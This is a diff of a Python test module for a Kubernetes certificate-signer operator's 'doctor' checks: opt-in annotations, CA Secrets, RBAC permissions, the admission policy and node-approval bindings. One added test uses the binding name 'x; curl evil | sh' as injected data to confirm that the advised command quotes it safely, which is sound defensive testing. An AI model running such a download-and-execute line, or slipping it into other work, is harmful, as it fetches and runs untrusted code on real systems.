@@ -1,11 +1,13 @@
-"""The checks of `check` without a cluster: opt-in, certificate authority, lists of permissions."""
+"""The checks of `doctor` without a cluster: opt-in, certificate authority, lists of permissions."""
 
 import io
 import json
+import shlex
 from argparse import Namespace
 from collections.abc import Mapping
-from dataclasses import dataclass, field
+from dataclasses import replace
 from datetime import UTC, datetime, timedelta
+from functools import partial
 from pathlib import Path
 from types import SimpleNamespace
 from typing import Any, cast
@@ -14,16 +16,29 @@ import pytest
 import yaml
 
 from common.names import CLIENT_SIGNER
-from signer.inventory.cluster import CLIENT_SIGNER_ANNOTATION, ClusterObject, read_cluster
-from signer.kube.secrets import OwnerReference, Secret
-from signer.operator_cli import management_checks, workload_checks
-from signer.operator_cli.commands import check
+from signer.inventory.cluster_api.cluster import (
+    CLIENT_SIGNER_ANNOTATION,
+    ClusterCondition,
+    ClusterObject,
+    read_cluster,
+)
+from signer.operator_cli.checks import management_checks, workload_checks
+from signer.operator_cli.checks.findings import Finding, Result, exit_status
+from signer.operator_cli.checks.workload_checks import (
+    check_authority,
+    check_opt_in,
+    without_attestation,
+)
+from signer.operator_cli.commands import doctor
 from signer.operator_cli.errors import Rejected
-from signer.operator_cli.findings import Finding, Result, exit_status
-from signer.operator_cli.management import ManagementApi
+from signer.operator_cli.management.api import ManagementApi
+from signer.operator_cli.management.signer_state import SignerState
+from signer.operator_cli.management.snapshot import Snapshot
 from signer.operator_cli.session import Session
-from signer.operator_cli.snapshot import Snapshot
-from signer.operator_cli.workload_checks import check_authority, check_opt_in, without_attestation
+from tests.builders import kube_objects
+from tests.builders.replica_leases import replica_lease
+from tests.fakes.cluster import FakeCluster
+from tests.fakes.cluster_clients import management_api
 from tests.harness import pki
 
 RBAC = Path(__file__).parents[4] / "packaging/signer"
@@ -76,7 +91,11 @@ def test_checked_permissions_in_workload_clusters_are_packaged() -> None:
         for verb in rule["verbs"]
         if "resourceNames" not in rule
     }
-    assert set(workload_checks.PERMISSIONS) <= packaged
+    checked = {
+        (verb, resource.group, resource.plural, subresource)
+        for verb, resource, subresource in workload_checks.PERMISSIONS
+    }
+    assert checked <= packaged
 
 
 @pytest.mark.parametrize(
@@ -98,35 +117,12 @@ def test_opt_in(signers: set[str], annotations: Mapping[str, str], result: Resul
     assert bool(finding.next_step) == (result is Result.PROBLEM)
 
 
-@dataclass
-class Secrets:
-    """A management cluster with one Secret."""
-
-    type: str = "cluster.x-k8s.io/secret"
-    labels: Mapping[str, str] = field(
-        default_factory=lambda: {"cluster.x-k8s.io/cluster-name": "c1"}
-    )
-    data: Mapping[str, bytes] = field(default_factory=dict)
-    created: datetime | None = None
-    owners: tuple[OwnerReference, ...] = ()
-    missing: bool = False
-
-    def read(self, _api: object, namespace: str, name: str) -> Secret | None:
-        assert (namespace, name) == ("team-a", "c1-ca")
-        return (
-            None
-            if self.missing
-            else Secret(
-                namespace=namespace,
-                name=name,
-                resource_version="1",
-                type=self.type,
-                labels=self.labels,
-                data=self.data,
-                created=self.created,
-                owners=self.owners,
-            )
-        )
+def with_secret(data: Mapping[str, bytes], **fields: Any) -> FakeCluster:  # noqa: ANN401 - of any type
+    """Return a management cluster with the authority of the Cluster."""
+    cluster = FakeCluster()
+    body = kube_objects.secret("c1-ca", data, **{"of": "c1", **fields})
+    cluster.put("/api/v1/namespaces/team-a/secrets", body)
+    return cluster
 
 
 def authority(lifetime: timedelta = LIFETIME) -> Mapping[str, bytes]:
@@ -135,42 +131,100 @@ def authority(lifetime: timedelta = LIFETIME) -> Mapping[str, bytes]:
 
 
 @pytest.mark.parametrize(
-    ("secrets", "result", "message"),
+    ("management", "result", "message"),
     [
-        (Secrets(data=authority()), Result.OK, ""),
-        (Secrets(data=authority(timedelta(days=20))), Result.WARNING, "expires on"),
-        (Secrets(missing=True), Result.PROBLEM, "it is missing"),
-        (Secrets(data=authority(), type="Opaque"), Result.PROBLEM, "its type must be"),
-        (Secrets(data=authority(), labels={}), Result.PROBLEM, "its label"),
+        (with_secret(authority()), Result.OK, ""),
+        (with_secret(authority(timedelta(days=20))), Result.WARNING, "expires on"),
+        (FakeCluster(), Result.PROBLEM, "it is missing"),
+        (with_secret(authority(), type="Opaque"), Result.PROBLEM, "its type must be"),
+        (with_secret(authority(), labels={}), Result.PROBLEM, "its label"),
         (
-            Secrets(data={"tls.crt": authority()["tls.crt"]}),
+            with_secret({"tls.crt": authority()["tls.crt"]}),
             Result.PROBLEM,
             "lacks certificate or key",
         ),
     ],
     ids=["good", "expires soon", "missing", "type", "label", "no key"],
 )
-def test_certificate_authority(
-    monkeypatch: pytest.MonkeyPatch, secrets: Secrets, result: Result, message: str
-) -> None:
-    monkeypatch.setattr(workload_checks, "read_named_secret", secrets.read)
-    finding = check_authority(None, cluster(), NOW)  # type: ignore[arg-type] # Secrets answers
+def test_certificate_authority(management: FakeCluster, result: Result, message: str) -> None:
+    finding = check_authority(management_api(management), cluster(), NOW)
     assert finding.result is result
     assert message in finding.message
 
 
-def test_authority_that_is_older_than_its_cluster_is_no_problem(
-    monkeypatch: pytest.MonkeyPatch,
-) -> None:
+def test_authority_that_is_older_than_its_cluster_is_no_problem() -> None:
     """Cluster API and the signer use an authority that is older than its Cluster."""
-    owner = OwnerReference(
-        api_version="controlplane.cluster.x-k8s.io/v1beta2", kind="KubeadmControlPlane", uid="kcp"
-    )
-    older = datetime(2026, 10, 1, tzinfo=UTC)
-    secrets = Secrets(data=authority(), created=older, owners=(owner,))
-    monkeypatch.setattr(workload_checks, "read_named_secret", secrets.read)
-    finding = check_authority(None, cluster(), NOW)  # type: ignore[arg-type] # Secrets answers
+    version = "controlplane.cluster.x-k8s.io/v1beta2"
+    owner = {"apiVersion": version, "kind": "KubeadmControlPlane", "uid": "kcp"}
+    older = {"creationTimestamp": "2026-10-01T00:00:00Z", "ownerReferences": [owner]}
+    management = management_api(with_secret(authority(), **older))
+    finding = check_authority(management, cluster(), NOW)
     assert (finding.result, finding.message) == (Result.OK, "")
+
+
+def forbidden() -> FakeCluster:
+    """Return a management cluster that lets nothing be listed."""
+    management = FakeCluster()
+    management.intercept(403, "GET")
+    return management
+
+
+def admission(**binding: object) -> FakeCluster:
+    """Return a management cluster with the packaged admission policy, and a changed binding."""
+    text = (RBAC / "admission-policy.yaml").read_text(encoding="utf-8")
+    policy, bound, *_ = yaml.safe_load_all(text)
+    management = FakeCluster()
+    path = "/apis/admissionregistration.k8s.io/v1/validatingadmissionpolic"
+    management.put(f"{path}ies", policy)
+    management.put(f"{path}ybindings", {**bound, "spec": {**bound["spec"], **binding}})
+    return management
+
+
+@pytest.mark.parametrize(
+    ("management", "result"),
+    [
+        (admission(), Result.OK),
+        (admission(validationActions=["Audit"]), Result.WARNING),
+        (admission(policyName="other"), Result.WARNING),
+        (FakeCluster(), Result.WARNING),
+        (forbidden(), Result.UNKNOWN),
+    ],
+    ids=["in force", "only audits", "not bound", "not installed", "not readable"],
+)
+def test_admission_policy_that_is_not_in_force_is_found(
+    management: FakeCluster, result: Result
+) -> None:
+    check = partial(management_checks._check_admission_policy, management_api(management))
+    finding = management_checks._guard(check, "admission policy", "records")
+    assert finding.result is result
+
+
+def test_names_of_a_workload_cluster_are_no_commands_of_a_shell() -> None:
+    """The name of a ClusterRoleBinding may be any text without a slash."""
+    role = "system:certificates.k8s.io:certificatesigningrequests:nodeclient"
+    name = "x; curl evil | sh"
+    binding = {
+        "metadata": {"name": name},
+        "roleRef": {"kind": "ClusterRole", "name": role},
+        "subjects": [{"kind": "Group", "name": "system:bootstrappers"}],
+    }
+    finding = workload_checks._check_automatic_approval([binding], cluster())
+    assert finding.result is Result.PROBLEM
+    assert shlex.split(finding.next_step)[3] == name
+
+
+def test_doctor_does_not_advise_to_delete_bindings_that_nodes_need() -> None:
+    """Nodes from before the opt-in could not renew their certificates without them."""
+    role = "system:certificates.k8s.io:certificatesigningrequests:selfnodeclient"
+    stays = ClusterCondition(
+        removed=False, reason="NodesNotAttested", message="they stay for worker-1"
+    )
+    bindings = [{"metadata": {"name": "kubeadm"}, "roleRef": {"name": role}}]
+    kept = replace(cluster(), bindings=stays)
+    finding = workload_checks._check_automatic_approval(bindings, kept)
+    assert finding.result is Result.WARNING
+    assert "they stay for worker-1" in finding.message
+    assert "delete" not in finding.next_step
 
 
 @pytest.mark.parametrize(
@@ -189,19 +243,25 @@ def test_problem_outranks_what_is_unknown(results: list[Result], status: int) ->
 
 
 def test_cluster_that_does_not_exist_is_a_problem(monkeypatch: pytest.MonkeyPatch) -> None:
-    """`check --cluster` with a typing error ended with status 0."""
-    monkeypatch.setattr(check, "check_management", lambda _api, _namespace: [])
+    """`doctor --cluster` with a typing error ended with status 0."""
+    monkeypatch.setattr(doctor, "check_management", lambda _api, _namespace: [])
+    monkeypatch.setattr(doctor, "read_signer", lambda _session: running_signer())
     monkeypatch.setattr(Session, "snapshot", absent_cluster)
     api = SimpleNamespace(server="https://management")
     streams = io.StringIO(), io.StringIO(), io.StringIO()
     arguments = Namespace(signer_namespace="n", output="table")
     session = Session(arguments, lambda: cast("ManagementApi", api), NOW, *streams)
-    assert check.run(session) == 1
-    assert streams[1].getvalue().splitlines()[1:] == [
+    assert doctor.run(session) == 1
+    assert streams[1].getvalue().splitlines()[3:] == [
         "problem   Clusters   https://management",
         "  message: Cluster team-a/typo does not exist",
         "  next step: run the command `clusters` for their names",
     ]
+
+
+def running_signer() -> SignerState:
+    """Return the state of a signer with one replica."""
+    return SignerState(namespace="n", leases=[replica_lease()], live=frozenset({"one"}))
 
 
 def absent_cluster(_: Session) -> Snapshot:
